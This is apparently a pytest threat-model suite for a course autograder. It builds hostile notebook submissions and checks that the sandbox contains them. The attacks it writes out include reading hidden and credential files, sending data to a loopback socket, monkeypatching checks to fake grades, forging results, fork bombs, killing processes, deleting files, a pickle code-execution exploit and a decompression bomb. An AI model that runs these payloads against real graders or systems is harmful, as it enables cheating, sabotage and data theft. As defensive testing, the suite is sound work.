"""Threat model: hostile submissions graded in one batch with an honest one.

Every hostile submission is a real notebook (or a real file posing as one) in a submission folder
of its own, graded by the one batch driver (:func:`course.grading.assignment.grade_class`, what
``dl-course grade`` runs) together with ``honest``, two at a time. For each the tests assert that the
grader survives, that ``honest`` gets full marks as if alone, and that the attack earns nothing:
no unit scores above the honest submission's, the attacked units score 0, and the units the
attack does not touch keep their honest points.

The batch is graded twice: as the grader's options choose (bubblewrap where it is usable), and,
when the tests run as root, with the sandbox forced off (``sandbox="none"``), as on Gradescope,
where the fallback gives each worker a user of its own and, where the kernel has it, Landlock.
Attacks that need the worker to be contained (killing the grader, fork bombs, writing the
grader's files) run only where it is: under bubblewrap, or in the fallback as root. The attacks
that only *read* run in every mode, and their "canary" unit tells whether they succeeded; where
the worker is confined (bubblewrap, or the fallback with Landlock) they must read nothing.
"""
import hashlib
import json
import os
import shutil
import socket
import threading
import time
import zipfile
from pathlib import Path

import numpy as np
import pytest

from dataclasses import replace

from autograder import sandbox
from autograder.options import GradingOptions
from course.grading.assignment import grade_class
from tests.autograder import notebooks
from tests.autograder.attacks import STEAL_THE_REFERENCE
from tests.autograder.conftest import plan_for
from tests.autograder.notebooks import reference_source, replace_once, unit

REPO = Path(__file__).resolve().parents[2]
ROOT = os.geteuid() == 0
# cell_timeout and memory_mb leave room for a cell that imports torch (monkeypatching) on a 2-core
# machine that is also running notebooks (./run.sh test runs tests in parallel): the address space
# that torch's CUDA build maps on import (the default build where no CPU build can be had) is over
# 3 GB, and memory_mb is an address-space limit (RLIMIT_AS). cell_timeout stays under cpu_seconds,
# so a cell that never ends is stopped by the timeout the tests expect, not by the CPU limit.
OPTIONS = GradingOptions(request_timeout=2.0, cell_timeout=20.0, unit_timeout=10.0, submission_timeout=75.0,
                         memory_mb=4096, cpu_seconds=30, file_mb=4, tmp_mb=16, max_processes=32)
FULL = {u.grade_id: u.points for u in notebooks.UNITS}
LAYER_UNITS = {"a1-fc-affine_forward", "a1-fc-affine_backward", "a1-fc-relu_forward", "a1-fc-relu_backward", "a1-fc-softmax_loss"}
NET = "a1-fc-FullyConnectedNet"  # runs the layers above through the provided cells
UNREADABLE = "could not be read"
MODES = {"as-configured": OPTIONS, "fallback-as-root": replace(OPTIONS, sandbox="none")}


def ref(grade_id: str) -> str:
    return reference_source(unit(grade_id))


def canary(grade_id: str, attack: str) -> str:
    """The unit's correct code, made wrong when ``attack`` (top-level code) sets ``ESCAPED`` true."""
    name = unit(grade_id).names[0]
    honest = ref(grade_id).replace(f"def {name}(", f"def _honest_{name}(", 1)
    wrapper = (f"def {name}(*args, **kwargs):\n"
               f"    result = _honest_{name}(*args, **kwargs)\n"
               f"    if not ESCAPED:\n"
               f"        return result\n"
               f"    first = result[0] if isinstance(result, tuple) else result\n"
               f"    wrong = first + 1.0\n"
               f"    return (wrong, *result[1:]) if isinstance(result, tuple) else wrong\n")
    return f"{attack}\n{honest}\n{wrapper}"


class Exploit:
    """Pickled into the saved model: loading it with pickles allowed would create ``marker``."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return (Path.touch, (self.marker,))


# --------------------------------------------------------------------------------------------
# The corpus: name -> (notebook, or bytes, or a path maker), units that must score 0,
# units allowed to lose points besides those (the attack breaks them honestly)


def code_attacks(paths: dict, contained: bool) -> dict:
    """The corpus of attacks in the submitted code; those that need a contained worker only when ``contained``."""
    repo, out, grader_pid, port = str(REPO), str(paths["out"]), os.getpid(), paths["port"]
    reads = repr([str(REPO / "dl" / "layers.py"), str(REPO / "course" / "manifest.toml"), str(REPO / "gradebook.db"),
                  str(REPO / "source_notebooks"), str(paths["honest"]), str(paths["gradebook"]), out, "/root/.bash_history"])
    attacks = {
        "endless-loop": ({"a1-fc-sgd_momentum": "def sgd_momentum(w, dw, config=None):\n    while True:\n        pass\n"},
                         {"a1-fc-sgd_momentum"}, set()),
        "endless-loop-when-loaded": ({"a1-fc-rmsprop": ref("a1-fc-rmsprop") + "\nwhile True:\n    pass\n"},
                                     {"a1-fc-rmsprop"}, set()),
        "memory-bomb": ({"a1-fc-sgd_momentum": "import numpy as np\ndef sgd_momentum(w, dw, config=None):\n"
                                               "    hog = np.ones(2**40)\n    return w, config\n",
                         "a1-fc-rmsprop": "def rmsprop(w, dw, config=None):\n    hog = []\n    while True:\n"
                                          "        hog.append(np.empty(2**27))\n"},
                        {"a1-fc-sgd_momentum", "a1-fc-rmsprop"}, set()),
        "huge-output": ({"a1-fc-affine_forward": "import os, sys\n"
                                                 "for _ in range(2000):\n    print('PASSED ' * 2000)\n"
                                                 "os.write(1, b'x' * 2**22)\n"
                                                 "try:\n    os.write(2, b'e' * 2**24)\n"
                                                 "except OSError:\n    pass\n"
                                                 "for i in range(20):\n"
                                                 "    try:\n"
                                                 "        with open(f'junk{i}', 'wb') as f:\n"
                                                 "            f.write(b'0' * 2**23)\n"
                                                 "    except OSError:\n        pass\n" + ref("a1-fc-affine_forward")},
                        set(), set()),
        "exits": ({"a1-fc-sgd_momentum": "import sys\ndef sgd_momentum(w, dw, config=None):\n    sys.exit(0)\n",
                   "a1-fc-rmsprop": ref("a1-fc-rmsprop") + "\nimport os\nos._exit(0)\n",
                   "a1-fc-adam": "import os\ndef adam(w, dw, config=None):\n    os._exit(3)\n"},
                  {"a1-fc-sgd_momentum", "a1-fc-rmsprop", "a1-fc-adam"}, set()),
        "read-hidden-files": ({"a1-fc-relu_forward": canary("a1-fc-relu_forward", (
            f"import os\nESCAPED = []\nfor path in {reads}:\n"
            f"    try:\n"
            f"        ESCAPED.append(os.listdir(path) if os.path.isdir(path) else open(path, 'rb').read(16))\n"
            f"    except OSError:\n        pass\n"))}, set(), {"a1-fc-relu_forward", NET}),
        "steal-the-reference": ({"a1-fc-affine_forward": STEAL_THE_REFERENCE}, set(),
                                {"a1-fc-affine_forward", "a1-fc-affine_backward", NET}),
        "copy-the-reference": ({"a1-fc-adam": (
            f"import os\ntry:\n    exec(open(os.path.join({repo!r}, 'dl', 'optim.py')).read())\n"
            f"except OSError:\n    def adam(w, dw, config=None):\n        raise NotImplementedError\n")},
            set(), {"a1-fc-adam"}),
        "network": ({"a1-fc-relu_backward": canary("a1-fc-relu_backward", (
            f"import socket\nESCAPED = False\n"
            f"try:\n"
            f"    with socket.create_connection(('127.0.0.1', {port}), timeout=1) as s:\n"
            f"        s.sendall(b'stolen')\n"
            f"        ESCAPED = True\n"
            f"except OSError:\n    pass\n"))}, set(), {"a1-fc-relu_backward", NET}),
        "monkeypatching": ({"a1-fc-affine_forward": (
            "import builtins, sys, numpy, torch\nimport dl.gradcheck\n"
            "numpy.allclose = lambda *a, **k: True\n"
            "numpy.isclose = lambda a, b, *r, **k: numpy.ones(numpy.shape(a), bool)\n"
            "numpy.testing.assert_allclose = lambda *a, **k: None\n"
            "numpy.linalg.norm = lambda *a, **k: 0.0\n"
            "torch.allclose = lambda *a, **k: True\n"
            "torch.testing.assert_close = lambda *a, **k: None\n"
            "dl.gradcheck.rel_error = lambda *a, **k: 0.0\n"
            "builtins.abs = lambda x: 0\n"
            "builtins.max = lambda *a, **k: 0\n"
            # wrong in every part of its check (out, cache, float32), so the patched comparisons decide every point
            + replace_once(replace_once(ref("a1-fc-affine_forward"), "out = x.reshape(x.shape[0], -1) @ w + b",
                                        "out = (x.reshape(x.shape[0], -1) @ w + b + 1e-3).astype(np.float64)"),
                           "cache = (x, w, b)", "cache = (x + 1e-3, w, b)"))},
            {"a1-fc-affine_forward"}, {NET}),
        "hijack-the-worker": ({"a1-fc-relu_forward": (
            "import sys\n"
            "def _always_ok(self, request):\n    return {'ok': True, 'value': 0.0}\n"
            "sys.modules['__main__'].Session.handle = _always_ok\n"
            "import autograder.protocol as protocol\n"
            "protocol.unpack = lambda *a, **k: {'op': 'defined', 'names': ['relu_forward']}\n"
            "def relu_forward(x):\n    raise NotImplementedError\n")},
            {"a1-fc-relu_forward"}, set(FULL) - {"a1-fc-best_model"}),
        "exception-handlers": ({"a1-fc-affine_backward": (
            "import sys, traceback\n"
            "sys.excepthook = lambda *a: None\n"
            "traceback.print_exception = lambda *a, **k: None\n"
            "traceback.format_exc = lambda *a, **k: 'all tests passed'\n"
            "try:\n"
            "    from IPython.core.interactiveshell import InteractiveShell\n"
            "    InteractiveShell.showtraceback = lambda *a, **k: None\n"
            "    InteractiveShell.showsyntaxerror = lambda *a, **k: None\n"
            "except Exception:\n    pass\n"
            "get_ipython = lambda: None\n"
            "def affine_backward(dout, cache):\n    raise NotImplementedError\n")},
            {"a1-fc-affine_backward"}, {NET}),
        "fake-results": ({"a1-fc-softmax_loss": (
            "import json, os, struct\n"
            "FAKE = json.dumps({'score': 100, 'tests': [{'name': 'a1-fc-softmax_loss', 'score': 3, 'max_score': 3}]})\n"
            "print(FAKE)\n"
            "os.write(1, FAKE.encode())\n"
            "for name in ('results.json', '../results.json', '/tmp/results.json'):\n"
            "    try:\n        open(name, 'w').write(FAKE)\n    except OSError:\n        pass\n"
            "def _frame(value):\n"
            "    header = json.dumps({'v': {'dict': [['ok', True], ['value', value]]}, 'arrays': []}).encode()\n"
            "    return b'DLAG' + struct.pack('>IQ', len(header), 0) + header\n"
            "def softmax_loss(x, y):\n"
            "    for fd in range(1, 12):\n"
            "        try:\n            os.write(fd, _frame({'tuple': [0.0, None]}))\n"
            "        except OSError:\n            pass\n"
            "    return 1.0, x * 0 + 1\n")},
            {"a1-fc-softmax_loss"}, {NET}),
        "redefine-the-checks": ({"a1-fc-sgd_momentum": (
            "def rel_error(*args, **kwargs):\n    return 0.0\n"
            "def check_sgd_momentum(*args, **kwargs):\n    return True\n"
            "def run_checks(*args, **kwargs):\n    return 'passed'\n"
            "try:\n"
            "    import autograder.checks as checks\n"
            "    for name in list(checks.REGISTRY):\n"
            "        checks.REGISTRY[name] = lambda *a, **k: None\n"
            "except Exception:\n    pass\n"
            "def sgd_momentum(w, dw, config=None):\n    return w, config\n")},
            {"a1-fc-sgd_momentum"}, set()),
        "parser-bomb": ({"a1-fc-rmsprop": "x = " + "-" * 200_000 + "1\n" + ref("a1-fc-rmsprop"),  # too deep for the parser
                         "a1-fc-adam": "x = 1" + " + 1" * 200_000 + "\n" + ref("a1-fc-adam")},
                        {"a1-fc-rmsprop", "a1-fc-adam"}, set()),
    }
    if contained:  # contained only by the sandbox or a user of its own: never run them as the grader's user
        attacks["fork-bomb"] = ({"a1-fc-sgd_momentum": (
            "import os, time\n"
            "def sgd_momentum(w, dw, config=None):\n"
            "    for _ in range(12):\n"
            "        try:\n            os.fork()\n"
            "        except OSError:\n            pass\n"
            "    time.sleep(60)\n")}, {"a1-fc-sgd_momentum"}, set())
        attacks["kill-the-grader"] = ({
            "a1-fc-sgd_momentum": (f"import os, signal\ndef sgd_momentum(w, dw, config=None):\n"
                                   f"    os.kill(os.getppid(), signal.SIGKILL)\n    os.kill(1, signal.SIGKILL)\n"
                                   f"    os.kill({grader_pid}, signal.SIGKILL)\n    return w, config\n"),
            "a1-fc-rmsprop": ("import os, signal\ndef rmsprop(w, dw, config=None):\n"
                              "    for pid in os.listdir('/proc'):\n"
                              "        if pid.isdigit() and int(pid) != os.getpid():\n"
                              "            try:\n                os.kill(int(pid), signal.SIGKILL)\n"
                              "            except OSError:\n                pass\n"
                              "    os.kill(-1, signal.SIGKILL)\n    return w, config\n"),
            "a1-fc-adam": "import os, signal\ndef adam(w, dw, config=None):\n    os.killpg(0, signal.SIGKILL)\n"},
            {"a1-fc-sgd_momentum", "a1-fc-rmsprop", "a1-fc-adam"}, set())
        targets = repr([str(paths["honest"]), str(paths["out"] / "honest" / "results.json"), str(paths["out"] / "grades.csv"),
                        str(paths["gradebook"]), str(REPO / f".sandbox-escape-{grader_pid}"), "/usr/escape", "/escape"])
        attacks["write-outside"] = ({"a1-fc-relu_backward": canary("a1-fc-relu_backward", (
            f"import os, shutil\nESCAPED = []\nfor path in {targets}:\n"
            f"    try:\n        open(path, 'ab').close()\n        ESCAPED.append(path)\n"
            f"    except OSError:\n        pass\n"
            f"for path in ({str(paths['gradebook'])!r}, {str(paths['honest'])!r}):\n"
            f"    try:\n        os.remove(path)\n        ESCAPED.append(path)\n"
            f"    except OSError:\n        pass\n"
            f"shutil.rmtree({out!r}, ignore_errors=True)\n"))}, set(), {"a1-fc-relu_backward", NET})
    return attacks


def tampered() -> dict:
    """The student edited locked cells, hidden test cells and metadata (and claimed more points)."""
    nb = notebooks.submission()
    for cell in nb.cells:
        meta = cell.metadata.get("dl", {})
        if meta.get("role") == "setup":
            cell.source = "import os\nos._exit(1)\n"
        elif meta.get("role") == "tests":
            cell.source = "POINTS = 1000\nassert True\n"
            cell.metadata["nbgrader"]["points"] = 1000
        elif meta.get("role") == "provide":
            cell.source = "raise SystemExit('provided cell replaced')\n"
        elif meta.get("role") == "unit" and "nbgrader" in cell.metadata:
            cell.metadata["nbgrader"].update(points=1000, grade=True, locked=True)
    extra = notebooks.nbformat.v4.new_code_cell("import os\nos._exit(1)\n")
    extra.metadata["dl"] = {"role": "provide"}
    extra.metadata["nbgrader"] = {"grade_id": "fc-provide-1", "locked": True, "solution": False, "grade": False, "schema_version": 3}
    nb.cells.insert(2, extra)
    nb.metadata["dl"] = {"assignment": "../../..", "units": {"a1-fc-adam": ["print"]}, "provided": ["os"]}
    return nb


def write_big_notebook(path: Path) -> Path:
    """A valid notebook of about 100 MB (a huge output kept in a cell)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    text = json.dumps(notebooks.submission())
    assert text.endswith("}")
    with open(path, "w") as f:
        f.write(text[:-1] + ', "padding": "')
        chunk = "A" * 2**20
        for _ in range(100):
            f.write(chunk)
        f.write('"}')
    return path


def pickled_model(folder: Path, model_artifacts: Path, marker: Path) -> None:
    shutil.copytree(model_artifacts, folder)
    arrays = dict(np.load(folder / "a1_best_fc.npz"))
    arrays["W1"] = np.array([Exploit(marker)], dtype=object)
    np.savez(folder / "a1_best_fc.npz", **arrays)


def linked_submissions(submitted: Path, honest: Path) -> dict[str, Path]:
    """Submissions made of symbolic links (git and unzip keep them) to files the grader can read:
    the course's solution notebook with the honest student's saved model, and, beside a notebook
    of the student's own, links to the honest student's model files."""
    solution = submitted / "links-to-the-solution"
    solution.mkdir()
    (solution / "FullyConnectedNets.ipynb").symlink_to(REPO / "source_notebooks" / "a1" / "FullyConnectedNets.ipynb")
    (solution / "artifacts").symlink_to(honest.parent / "artifacts", target_is_directory=True)
    model = notebooks.write(notebooks.submission(), submitted / "linked-model" / "FullyConnectedNets.ipynb")
    (model.parent / "artifacts").mkdir()
    for file in (honest.parent / "artifacts").iterdir():
        (model.parent / "artifacts" / file.name).symlink_to(file)
    return {"links-to-the-solution": solution / "FullyConnectedNets.ipynb", "linked-model": model}


def model_bomb(folder: Path, model_artifacts: Path) -> None:
    """A saved model whose W1, compressed, is about 1 MiB on disk and 1 GiB once loaded (written
    in a stream, without holding it in memory): loading it all would take the grader's memory."""
    shutil.copytree(model_artifacts, folder)
    arrays = dict(np.load(folder / "a1_best_fc.npz"))
    with zipfile.ZipFile(folder / "a1_best_fc.npz", "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for key, value in arrays.items():
            with archive.open(f"{key}.npy", "w", force_zip64=True) as member:
                if key != "W1":
                    np.lib.format.write_array(member, value)
                    continue
                np.lib.format.write_array_header_1_0(member, {"descr": "<f8", "fortran_order": False, "shape": (2**17, 2**10)})
                for _ in range(2**10):
                    member.write(bytes(2**20))


# --------------------------------------------------------------------------------------------
# One batch: honest + every attack


class Listener:
    """A TCP server on the loopback that records whatever reaches it (the network attack's target)."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(4)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received, self.stop = [], threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.received.append(conn.recv(100))
                except OSError:
                    pass

    def close(self):
        self.stop.set()
        self.thread.join(5)
        self.sock.close()


def _processes_of_worker_users(wait: float = 5.0, before: frozenset = frozenset()) -> list[str]:
    """Host processes running under the user ids this process gives sandboxed workers (less those
    ``before``), once the kernel has had ``wait`` seconds to finish tearing down killed sandboxes."""
    deadline = time.monotonic() + wait
    ours = sandbox.worker_uids()  # this process's workers only: other tests may be grading beside us (pytest-xdist)
    while True:
        found = []
        for entry in os.listdir("/proc"):
            try:
                if entry.isdigit() and entry not in before and os.stat(f"/proc/{entry}").st_uid in ours:
                    with open(f"/proc/{entry}/cmdline", "rb") as f:
                        found.append(f"{entry}: {f.read().replace(bytes(1), b' ').decode(errors='replace')[:200]}")
            except OSError:
                continue
        if not found or time.monotonic() > deadline:
            return found
        time.sleep(0.1)


@pytest.fixture(scope="module", params=["as-configured", pytest.param("fallback-as-root", marks=pytest.mark.skipif(
    not ROOT, reason="the fallback gives each worker a user of its own only when the grader runs as root"))])
def batch(request, tmp_path_factory, release_path, model_artifacts, held_out):
    options = MODES[request.param]
    chosen = sandbox.resolve(options)
    root = tmp_path_factory.mktemp("threats")
    submitted, out = root / "submitted", root / "out"
    gradebook = root / "course" / "gradebook.db"
    gradebook.parent.mkdir()
    gradebook.write_bytes(b"SQLite format 3\x00 the staff's gradebook")
    honest = notebooks.write(notebooks.submission(), submitted / "honest" / "FullyConnectedNets.ipynb")
    shutil.copytree(model_artifacts, honest.parent / "artifacts")
    honest_hash = hashlib.sha256(honest.read_bytes()).hexdigest()
    listener = Listener()
    paths = {"out": out, "honest": honest, "gradebook": gradebook, "port": listener.port}
    attacks = code_attacks(paths, contained=chosen.kind == "bwrap" or chosen.own_users)
    marker = root / "pickle-ran"
    submissions = {"honest": honest}
    for name, (answers, _, _) in attacks.items():
        submissions[name] = notebooks.write(notebooks.submission(answers), submitted / name / "FullyConnectedNets.ipynb")
    submissions["tampered"] = notebooks.write(tampered(), submitted / "tampered" / "FullyConnectedNets.ipynb")
    for name in [*attacks, "tampered"]:
        shutil.copytree(model_artifacts, submissions[name].parent / "artifacts")
    raw = {"corrupt-json": json.dumps(notebooks.submission()).encode()[:5000],
           "wrong-nbformat": json.dumps({"nbformat": 3, "nbformat_minor": 0, "worksheets": [{"cells": []}], "metadata": {}}).encode(),
           "non-utf8": b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5, "x": "\xff\xfe\xfd"}',
           "nested-json": b'{"cells": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"}
    for name, content in raw.items():
        path = submitted / name / "FullyConnectedNets.ipynb"
        path.parent.mkdir(parents=True)
        path.write_bytes(content)
        submissions[name] = path
    submissions.update(linked_submissions(submitted, honest))
    submissions["huge-notebook"] = write_big_notebook(submitted / "huge-notebook" / "FullyConnectedNets.ipynb")
    submissions["pickle-exploit"] = notebooks.write(notebooks.submission(), submitted / "pickle-exploit" / "FullyConnectedNets.ipynb")
    pickled_model(submissions["pickle-exploit"].parent / "artifacts", model_artifacts, marker)
    submissions["model-bomb"] = notebooks.write(notebooks.submission(), submitted / "model-bomb" / "FullyConnectedNets.ipynb")
    model_bomb(submissions["model-bomb"].parent / "artifacts", model_artifacts)
    before = frozenset(pid.split(":")[0] for pid in _processes_of_worker_users(wait=0))
    try:
        results = grade_class(plan_for(release_path, notebooks.UNITS, options, data=held_out),
                              [path.parent for path in submissions.values()], out, jobs=2).results
    finally:
        listener.close()
    escape = REPO / f".sandbox-escape-{os.getpid()}"
    escaped = escape.exists()
    escape.unlink(missing_ok=True)
    return {
        "results": {r.submission: r for r in results}, "attacks": attacks, "out": out, "marker": marker,
        "listener": listener.received, "honest_hash": honest_hash, "honest": honest, "gradebook": gradebook,
        "escaped_to_repo": escaped, "leftovers": _processes_of_worker_users(before=before), "sandbox": chosen,
    }


def scores(result) -> dict[str, float]:
    return {u.grade_id: u.score for u in result.units}


def by_id(result, grade_id):
    return next(u for u in result.units if u.grade_id == grade_id)


# --------------------------------------------------------------------------------------------
# What must hold


def test_the_honest_submission_is_graded_normally(batch):
    honest = batch["results"]["honest"]
    assert scores(honest) == FULL, [(u.grade_id, u.message) for u in honest.units if u.status != "passed"]
    data = json.loads((batch["out"] / "honest" / "results.json").read_text())
    assert data["score"] == sum(FULL.values())
    assert hashlib.sha256(batch["honest"].read_bytes()).hexdigest() == batch["honest_hash"]
    assert batch["gradebook"].read_bytes().startswith(b"SQLite format 3")


def test_every_submission_got_results(batch):
    for name in batch["results"]:
        data = json.loads((batch["out"] / name / "results.json").read_text())
        assert [t["name"] for t in data["tests"]] == list(FULL)
        assert all(0 <= t["score"] <= t["max_score"] == FULL[t["name"]] for t in data["tests"])
    rows = (batch["out"] / "grades.csv").read_text().splitlines()
    assert len(rows) == 1 + len(batch["results"])


@pytest.mark.parametrize("name", ["endless-loop", "endless-loop-when-loaded", "memory-bomb", "huge-output", "exits",
                                  "read-hidden-files", "steal-the-reference", "copy-the-reference", "network", "monkeypatching",
                                  "hijack-the-worker", "exception-handlers", "fake-results", "redefine-the-checks", "parser-bomb",
                                  "fork-bomb", "kill-the-grader", "write-outside"])
def test_an_attack_earns_nothing_and_costs_only_what_it_breaks(batch, name):
    if name not in batch["attacks"]:
        pytest.skip(f"{name} runs only where the worker is contained: {batch['sandbox'].warning}")
    _, zero, may_lose = batch["attacks"][name]
    result = scores(batch["results"][name])
    messages = {u.grade_id: u.message for u in batch["results"][name].units}
    for grade_id, points in FULL.items():
        assert result[grade_id] <= points, (grade_id, messages[grade_id])
        if grade_id in zero:
            assert result[grade_id] == 0, (grade_id, messages[grade_id])
        elif grade_id not in may_lose:
            assert result[grade_id] == points, (grade_id, messages[grade_id])


def test_timeouts_crashes_and_memory_bombs_say_what_happened(batch):
    results = batch["results"]
    assert "no answer within 2 s" in by_id(results["endless-loop"], "a1-fc-sgd_momentum").message
    assert "no answer within" in by_id(results["endless-loop-when-loaded"], "a1-fc-rmsprop").message
    assert "MemoryError" in by_id(results["memory-bomb"], "a1-fc-sgd_momentum").message
    assert "MemoryError" in by_id(results["memory-bomb"], "a1-fc-rmsprop").message
    assert "SystemExit" in by_id(results["exits"], "a1-fc-sgd_momentum").message
    assert "stopped" in by_id(results["exits"], "a1-fc-adam").message


def test_notebooks_that_cannot_be_read_score_zero(batch):
    for name, words in (("corrupt-json", "not valid JSON"), ("wrong-nbformat", "not an nbformat 4 notebook"),
                        ("non-utf8", "not UTF-8"), ("nested-json", "nested too deeply"), ("huge-notebook", "over the 50 MiB limit")):
        result = batch["results"][name]
        assert result.score == 0 and UNREADABLE in result.error and words in result.error, result.error
        assert str(batch["out"].parent) not in result.error  # no grader paths in feedback


def test_tampered_locked_cells_and_metadata_change_nothing(batch):
    result = batch["results"]["tampered"]
    assert scores(result) == FULL, [(u.grade_id, u.message) for u in result.units if u.status != "passed"]
    assert result.max_score == sum(FULL.values())


def test_a_pickle_in_the_saved_model_is_never_loaded(batch):
    result = batch["results"]["pickle-exploit"]
    best = by_id(result, "a1-fc-best_model")
    assert best.score == 0 and "cannot be used" in best.message and "pickle" in best.message.lower(), best.message
    assert not batch["marker"].exists()
    assert {g: s for g, s in scores(result).items() if g != "a1-fc-best_model"} == {g: p for g, p in FULL.items() if g != "a1-fc-best_model"}


def test_links_out_of_the_submission_are_never_followed(batch):
    solution = batch["results"]["links-to-the-solution"]
    assert solution.score == 0 and "FullyConnectedNets.ipynb is a symbolic link" in solution.error, solution.error
    model = batch["results"]["linked-model"]
    best = by_id(model, "a1-fc-best_model")
    assert best.score == 0 and "artifacts/a1_best_fc.npz is a symbolic link" in best.message, best.message
    assert not best.public_passed and "symbolic link" in best.public_message
    assert {g: s for g, s in scores(model).items() if g != "a1-fc-best_model"} == {g: p for g, p in FULL.items() if g != "a1-fc-best_model"}


def test_a_saved_model_too_big_to_load_is_never_loaded(batch):
    result = batch["results"]["model-bomb"]
    best = by_id(result, "a1-fc-best_model")
    assert best.score == 0 and "1,024 MiB in memory, over the 400 MiB limit" in best.message, best.message
    assert {g: s for g, s in scores(result).items() if g != "a1-fc-best_model"} == {g: p for g, p in FULL.items() if g != "a1-fc-best_model"}


def test_a_confined_worker_reads_no_hidden_file_and_reaches_no_server(batch):
    """Under bubblewrap, or in the fallback with Landlock: the reference, the repository, the
    gradebook, other submissions and the results are out of reach, however readable they are."""
    chosen = batch["sandbox"]
    if chosen.kind != "bwrap" and not chosen.landlock:
        pytest.skip(f"the worker is not confined here: {chosen.warning}")
    results = batch["results"]
    assert by_id(results["read-hidden-files"], "a1-fc-relu_forward").score == FULL["a1-fc-relu_forward"]  # read nothing
    assert by_id(results["steal-the-reference"], "a1-fc-affine_forward").score == 0  # found no dl/layers.py but the stubs
    assert by_id(results["copy-the-reference"], "a1-fc-adam").score == 0  # dl/optim.py is not there to copy
    if chosen.kind == "bwrap" or chosen.landlock >= 4:  # Landlock's ABI 4 handles TCP
        assert by_id(results["network"], "a1-fc-relu_backward").score == FULL["a1-fc-relu_backward"]  # no connection
        assert batch["listener"] == []


def test_a_contained_worker_writes_nothing_outside_and_leaves_no_process(batch):
    """Under bubblewrap, or in the fallback as root (a user of its own per worker): nothing the
    grader owns is written, and fork bombs and every other worker process end with their worker."""
    if "write-outside" not in batch["attacks"]:
        pytest.skip(f"the worker is not contained here: {batch['sandbox'].warning}")
    assert by_id(batch["results"]["write-outside"], "a1-fc-relu_backward").score == FULL["a1-fc-relu_backward"]  # wrote nothing
    assert not batch["escaped_to_repo"]
    assert batch["leftovers"] == []


def test_without_bubblewrap_the_results_say_what_protected_them(batch):
    warning = batch["sandbox"].warning
    if warning is None:
        assert not any(r.warnings for r in batch["results"].values())
        return
    assert warning.startswith("WARNING: grading ran without the bubblewrap sandbox")
    for name in batch["results"]:
        output = json.loads((batch["out"] / name / "results.json").read_text())["output"]
        assert output.startswith(warning)
